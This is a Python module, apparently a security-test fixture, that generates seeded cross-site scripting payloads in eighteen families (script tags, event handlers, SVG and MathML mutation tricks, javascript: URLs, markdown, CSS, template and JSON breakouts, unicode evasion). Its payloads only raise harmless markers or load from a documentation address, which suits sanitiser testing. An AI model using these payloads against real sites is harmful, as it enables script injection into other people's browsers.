"""Texts that would like to run, made from families by a seed: nothing is taken from anybody's list.

Each text begins with a word of its own (`token`), so that it can be found where it is shown, and reports its number if
it runs: through `xssHit`, a dialog, a mark on the window or the console; those that load something ask HOST.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence

__all__ = ["HOST", "SEED", "payloads", "token"]

SEED = 20260
HOST = "198.51.100.7"  # a block for documentation: nothing answers there
_SINKS = ("xssHit({n})", "alert({n})", "window.__xss={n}", "console.log(`xss-{n}`)")
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</svg>",
    "]]>",
    "</option></select>",
    "`}",
)

Family = Callable[[random.Random, str, str], str]


def token(number: int) -> str:
    """The word that the text of that number begins with."""
    return f"xq{number}z"


def payloads(count: int, seed: int = SEED) -> list[str]:
    """`count` texts, the families in turn; the same seed gives the same texts."""
    rng = random.Random(seed)  # noqa: S311  not for secrets
    return [_payload(rng, number) for number in range(count)]


def _payload(rng: random.Random, number: int) -> str:
    sink = rng.choice(_SINKS).format(n=number)
    family = _FAMILIES[number % len(_FAMILIES)]
    made = rng.choice(_BREAKS) + family(rng, sink, f"//{HOST}/{number}")
    return f"{token(number)} {made}{rng.choice(('', ' ', ' tail', '>', '<!--'))}"


def _case(rng: random.Random, text: str) -> str:
    """Letters in either case, as tags and attributes may be written."""
    return "".join(rng.choice((char.upper(), char.lower())) for char in text)


def _tag(rng: random.Random, sink: str, url: str) -> str:
    space = rng.choice((" ", "\t", "/", "\n"))
    name = _case(rng, "script")
    return rng.choice(
        (f"<{name}>{sink}</{name}>", f"<{name}{space}src={url}.js></{name}>", f"<{name}{space}>{sink}//")
    )


def _handler(rng: random.Random, sink: str, _url: str) -> str:
    quote = rng.choice(('"', "'", ""))
    space = rng.choice((" ", "\t", "/", "\n"))
    tag, event = rng.choice(
        (
            ("img src=x", "onerror"),
            ("body", "onload"),
            ("input autofocus", "onfocus"),
            ("details open", "ontoggle"),
            ("video><source", "onerror"),
            ("audio src=x", "onerror"),
            ("iframe", "onload"),
            ("marquee", "onstart"),
            ("style", "onload"),
            ("p style=position:fixed;inset:0", "onmouseover"),
            ("textarea autofocus", "onfocus"),
            ("select autofocus", "onfocus"),
            ("object data=x", "onerror"),
        )
    )
    return f"<{tag}{space}{_case(rng, event)}={quote}{sink}{quote}>"


def _svg(rng: random.Random, sink: str, url: str) -> str:
    return rng.choice(
        (
            f"<svg onload={sink}>",
            f"<svg><script>{sink}</script></svg>",
            f"<svg><animate onbegin={sink} attributeName=x dur=1s>",
            f"<svg><set attributeName=href to=javascript:{sink} />",
            f"<svg><foreignObject><iframe srcdoc='<script>parent.{sink}</script>'></iframe></foreignObject></svg>",
            f"<svg><image href={url}.png></svg>",
            f"<svg><use href='data:image/svg+xml,<svg id=a onload={sink}>#a'></svg>",
            f"<svg><a xlink:href=javascript:{sink}><text>click</text></a></svg>",
            f"<svg><style><img src=x onerror={sink}></style></svg>",
        )
    )


def _math(rng: random.Random, sink: str, _url: str) -> str:
    return rng.choice(
        (
            f"<math href=javascript:{sink}>click</math>",
            f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={sink}&gt;'>",
            f"<math><annotation-xml encoding=text/html><img src=x onerror={sink}></annotation-xml></math>",
            f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={sink}>",
        )
    )


def _template_literal(rng: random.Random, sink: str, _url: str) -> str:
    return rng.choice(("${%s}", "`+%s+`", "`;%s;//", "\\${%s}", "${`${%s}`}", "\\`;%s;//")) % sink


def _markdown_image(rng: random.Random, sink: str, url: str) -> str:
    return rng.choice(
        (
            f"![a](http:{url}.png)",
            f"![a](http:{url}.png 'title')",
            f"[![a](http:{url}.png)](http:{url})",
            f"![a][1]\n\n[1]: http:{url}.png",
            f"![a](javascript:{sink})",
            f"<img src='http:{url}.png'>",
        )
    )


def _markdown_link(rng: random.Random, sink: str, _url: str) -> str:
    return rng.choice(
        (
            f"[a](javascript:{sink})",
            f"[a](  JaVaScRiPt:{sink} 'x')",
            f"<javascript:{sink}>",
            f"[a](data:text/html,<script>{sink}</script>)",
            f"[a]: javascript:{sink}\n[a]",
            f"**[a](vbscript:{sink})** $\\href{{javascript:{sink}}}{{x}}$ :red[x] :material/map:",
        )
    )


def _script_url(rng: random.Random, sink: str, _url: str) -> str:
    scheme = rng.choice(
        ("javascript:", "java\tscript:", "&#106;avascript:", "&#x6A;avascript&colon;", "\x01javascript:")
    )
    return rng.choice(
        (
            f'<a href="{scheme}{sink}">click</a>',
            f'<iframe src="{scheme}{sink}"></iframe>',
            f'<form action="{scheme}{sink}"><button>go</button></form>',
            f'<object data="{scheme}{sink}"></object>',
            f'<embed src="{scheme}{sink}">',
            f'<button formaction="{scheme}{sink}">go</button>',
        )
    )


def _css(rng: random.Random, sink: str, url: str) -> str:
    return rng.choice(
        (
            f"<style>@import 'http:{url}.css';</style>",
            f"<style>*{{background:url(http:{url}.png)}}</style>",
            f"<div style=\"background:url('http:{url}.png')\">x</div>",
            f"<link rel=stylesheet href=http:{url}.css>",
            f"x;background:url(http:{url}.png);",
            f"red}}</style><style>body{{background:url(http:{url}.png)}}",
            f"<div style=width:expression({sink})>",
        )
    )


def _mustache(rng: random.Random, sink: str, _url: str) -> str:
    return (
        rng.choice(
            (
                "{{%s}}",
                "{{constructor.constructor('%s')()}}",
                "{%% raw %%}{{%s}}{%% endraw %%}",
                "{{ ''.__class__.__mro__ }}{%% for x in () %%}%s{%% endfor %%}",
                "<%%= %s %%>",
                "#{%s}",
                "{{{%s}}}",
                "{{'</script><script>%s</script>'}}",
            )
        )
        % sink
    )


def _unicode(rng: random.Random, sink: str, _url: str) -> str:
    return rng.choice(
        (
            f"＜script＞{sink}＜/script＞",
            f"\u202e<img src=x onerror={sink}>\u202c",
            f"<\u200bimg src=x onerror={sink}>",
            f"\\u003cimg src=x onerror={sink}\\u003e",
            f"&lt;img src=x onerror={sink}&gt;",
            f"&amp;lt;script&amp;gt;{sink}",
            f"%3Cscript%3E{sink}%3C/script%3E",
            f"\u2028{sink}\u2029",
            f"<ſcript>{sink}</ſcript>",
            f"<img src=x\u00a0onerror\u3000={sink}>",
            f"\ufeff<svg/onload={sink}>",
        )
    )


def _quotes(rng: random.Random, sink: str, _url: str) -> str:
    return rng.choice(
        (
            f'" onmouseover="{sink}',
            f"' autofocus onfocus='{sink}",
            f'"-{sink}-"',
            f"';{sink};//",
            f'\\";{sink};//',
            f"\\\\';{sink};//",
            f'" src=x onerror={sink} x="',
            f"'+{sink}+'",
            f'"onclick={sink} style="position:fixed;inset:0',
        )
    )


def _script_end(rng: random.Random, sink: str, _url: str) -> str:
    end = rng.choice(
        ("</script>", "</ScRiPt >", "</script/x>", "</script\n>", "<!--<script>", "<!-- </script>")
    )
    return f"{end}<script>{sink}</script>"


def _json(rng: random.Random, sink: str, _url: str) -> str:
    return rng.choice(
        (
            f'"}}];{sink};[{{"',
            f'"}});{sink};({{"a":"',
            f'","__proto__":{{"toString":"{sink}"}},"x":"',
            f"\\u0022}});{sink};//",
            f'"]}}</script><script>{sink}</script>',
            f"\\\n\u2028{sink}//",
        )
    )


def _comment(rng: random.Random, sink: str, _url: str) -> str:
    return rng.choice(
        (
            f"<!--><img src=x onerror={sink}>-->",
            f"--!><svg onload={sink}>",
            f"<![CDATA[><img src=x onerror={sink}>]]>",
            f"<!-- --><script>{sink}</script><!-- -->",
            f"*/{sink}/*",
            f"<?xml version='1.0'?><script>{sink}</script>",
        )
    )


def _expression(rng: random.Random, sink: str, url: str) -> str:
    """For charts: Vega has a language of its own."""
    return rng.choice(
        (
            f"'+{sink}+'",
            "datum['constructor']",
            f'{{"signal": "{sink}"}}',
            f'{{"expr": "event.view.{sink}"}}',
            f"image://http:{url}.png",
            f'{{"url": "http:{url}.json"}}',
        )
    )


def _frame(rng: random.Random, sink: str, url: str) -> str:
    return rng.choice(
        (
            f'<iframe srcdoc="<script>parent.{sink}</script>"></iframe>',
            f"<iframe src=http:{url}></iframe>",
            f"<meta http-equiv=refresh content='0;url=http:{url}'>",
            f"<base href=http:{url}/>",
            f"<object data=http:{url}></object>",
            f"<embed src=http:{url}>",
            f"<iframe src='data:text/html,<script>parent.{sink}</script>'></iframe>",
            f"<link rel=prefetch href=http:{url}>",
        )
    )


def _mutation(rng: random.Random, sink: str, url: str) -> str:
    return rng.choice(
        (
            f"<noscript><p title='</noscript><img src=x onerror={sink}>'>",
            f"<a id='x' title='`><img src=x onerror={sink}>'>",
            f"<svg></p><style><a title='</style><img src=x onerror={sink}>'>",
            f"<table><td background=http:{url}.png>",
            f"<select><template><img src=x onerror={sink}></template></select>",
            f"<plaintext><img src=x onerror={sink}>",
            f"<xmp></xmp><img src=x onerror={sink}>",
            f"<img name=body><img id=attributes src=x onerror={sink}>",
        )
    )


_FAMILIES: Sequence[Family] = (
    _tag,
    _handler,
    _svg,
    _math,
    _template_literal,
    _markdown_image,
    _markdown_link,
    _script_url,
    _css,
    _mustache,
    _unicode,
    _quotes,
    _script_end,
    _json,
    _comment,
    _expression,
    _frame,
    _mutation,
)
